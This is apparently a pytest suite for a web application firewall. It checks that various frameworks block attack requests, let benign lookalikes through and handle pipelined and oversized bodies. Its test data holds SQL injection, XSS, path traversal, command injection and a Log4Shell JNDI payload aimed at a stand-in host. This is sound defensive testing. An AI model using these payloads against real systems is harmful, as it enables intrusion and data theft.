"""Real frameworks in real servers: attacks do not come through, lookalikes do, and bodies come through whole."""

from __future__ import annotations

import json
import re
import socket
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import httpx
import pytest

import servers

if TYPE_CHECKING:
    from collections.abc import Iterator

JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
TEXT = {"content-type": "text/plain"}
#: Method, target, headers, body; then the class and the pointer that a problem names.
ATTACKS: list[tuple[str, str, dict[str, str], str, str, str]] = [
    ("GET", "/?id=1'+or+'1'%3D'1", {}, "", "sqli", "/id"),
    ("GET", "/page?name=%3Cscript%3Ealert(1)%3C/script%3E", {}, "", "xss", "/name"),
    ("GET", "/static/..%2f..%2f..%2fetc/passwd", {}, "", "lfi", "/path"),
    ("GET", "/", {"x-api": "${jndi:ldap://evil.example/a}"}, "", "log4j", "/x-api"),
    ("GET", "/", {"cookie": "theme=dark; id=1' union select password from users--"}, "", "sqli", "/id"),
    ("POST", "/echo", JSON, r'{"user": "admin\u0027 or sleep(5)#"}', "sqli", "/user"),
    ("POST", "/echo", FORM, "a=1&host=127.0.0.1%3B+cat+/etc/passwd", "cmdi", "/host"),
    ("PUT", "/echo", TEXT, "<img src=x onerror=alert(1)>", "xss", ""),
]
LOOKALIKES: list[tuple[str, str, dict[str, str], str]] = [
    ("GET", "/?q=Conan+O%27Brien+and+sons", {}, ""),
    ("GET", "/search?q=select+a+table+from+the+union+square+store", {}, ""),
    ("GET", "/files/report..2024/final.pdf", {}, ""),
    ("GET", "/", {"cookie": "theme=dark; session=b2xkLWZhc2hpb25lZA"}, ""),
    ("POST", "/echo", JSON, '{"note": "we have 5 < 7, so drop by after 8 -- the usual place"}'),
    ("POST", "/echo", FORM, "comment=I+love+%3C3+this%21+%26+that&rating=5"),
    ("PUT", "/echo", TEXT, "Dear all, please select one or more tables from the list."),
    ("POST", "/echo", JSON, json.dumps({"items": [{"n": number} for number in range(4000)]})),
]


@pytest.fixture(scope="module", params=servers.SERVED)
def name(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture(scope="module")
def site(name: str) -> Iterator[str]:
    with servers.serve(name) as address:
        yield address


@pytest.fixture(scope="module")
def client(site: str) -> Iterator[httpx.Client]:
    # Its own lines end up among those of the request; they are as a client sends them.
    with httpx.Client(base_url=site, timeout=20) as client:
        yield client


def needs_length(name: str, chunked: bool) -> None:
    if chunked and name == "django_wsgi":
        pytest.skip("under WSGI, Django reads no body without a length: views get an empty one")


def in_pieces(body: str) -> Iterator[bytes]:
    data = body.encode()
    for at in range(0, len(data), max(7, len(data) // 50)):
        yield data[at : at + max(7, len(data) // 50)]


@pytest.mark.parametrize("chunked", [False, True], ids=["whole", "chunked"])
def test_attacks_are_refused_with_a_problem(name: str, client: httpx.Client, chunked: bool) -> None:
    needs_length(name, chunked)
    for method, target, headers, body, class_, pointer in ATTACKS:
        if chunked and not body:
            continue
        content: Any = in_pieces(body) if chunked else body.encode()
        answer = client.request(method, target, headers=headers, content=content)
        assert answer.status_code == 403, (target, answer.text)
        assert answer.headers["content-type"] == "application/problem+json"
        assert answer.headers["cache-control"] == "no-store"
        problem = answer.json()
        assert (problem["status"], problem["title"], problem["class"]) == (403, "Forbidden", class_)
        assert problem["pointer"] == pointer
        assert problem["rule"]
        assert not re.search("sleep|passwd|onerror|union", answer.text)


@pytest.mark.parametrize("chunked", [False, True], ids=["whole", "chunked"])
def test_lookalikes_come_through_whole(name: str, client: httpx.Client, chunked: bool) -> None:
    needs_length(name, chunked)
    for method, target, headers, body in LOOKALIKES:
        if chunked and not body:
            continue
        content: Any = in_pieces(body) if chunked else body.encode()
        answer = client.request(method, target, headers=headers, content=content)
        assert answer.status_code == 200, (target, answer.text)
        assert answer.text == (servers.digest(body.encode()) if body else "ok")


def test_pipelined_requests_are_judged_one_by_one(site: str) -> None:
    """What follows a refused request in the same packet is a request of its own, and never the rest of its body."""
    attack = r'{"user": "admin\u0027 or sleep(5)#"}'
    head = "Host: shop.example\r\n"
    hidden = f"GET /hidden HTTP/1.1\r\n{head}\r\n"
    requests = [
        f"GET /?q=tea HTTP/1.1\r\n{head}\r\n",
        f"POST /echo HTTP/1.1\r\n{head}Content-Type: application/json\r\nContent-Length: {len(attack)}\r\n\r\n{attack}",
        f"POST /echo HTTP/1.1\r\n{head}Content-Type: text/plain\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
        f"GET /?id=1'+or+'1'='1 HTTP/1.1\r\n{head}Connection: close\r\n\r\n",
    ]
    parts = urlsplit(site)
    with socket.create_connection((parts.hostname, parts.port), timeout=20) as line:
        line.sendall("".join(requests).encode())
        answered = b""
        while True:
            try:
                piece = line.recv(65536)
            except ConnectionResetError:
                break
            if not piece:
                break
            answered += piece
    statuses = re.findall(rb"HTTP/1\.1 (\d+)", answered)
    # A server may end the connection after a refusal; what it answers, it answers in order.
    assert statuses == [b"200", b"403", b"200", b"403"][: len(statuses)]
    assert len(statuses) >= 2
    if len(statuses) > 2:
        assert servers.digest(hidden.encode()).encode() in answered


LIMITED = ["starlette", "starlette_stream", "flask", "django_wsgi", "django_asgi", "aiohttp_for_gunicorn"]


@pytest.mark.parametrize("server", LIMITED)
def test_long_bodies_are_refused_unless_only_reported(server: str) -> None:
    long = "a plain text of a page, " * 10_000
    attack = long + "<script>alert(1)</script>"

    def post(site: str, body: str, chunked: bool = False) -> httpx.Response:
        content: Any = in_pieces(body) if chunked else body.encode()
        # A connection for each: gunicorn says keep-alive and then closes those that a refused body is left on.
        return httpx.post(f"{site}/echo", headers=TEXT, content=content)

    streams = server == "starlette_stream"
    with servers.serve(server, ABATIS_TEST_BODY_LIMIT="100000") as site:
        for chunked in (False, True):
            if server == "django_wsgi" and chunked:
                # See `needs_length`.
                continue
            answer = post(site, long, chunked)
            assert answer.status_code == (200 if streams else 413), answer.text
            if not streams:
                assert answer.json()["limit"] == "stopped"
    environment = {"ABATIS_TEST_BODY_LIMIT": "100000", "ABATIS_TEST_REPORT_ONLY": "1"}
    with servers.serve(server, **environment) as site:
        for body in (long, attack):
            assert post(site, body).text == servers.digest(body.encode())
        assert httpx.get(f"{site}/?id=1'+or+'1'='1").text == "ok"
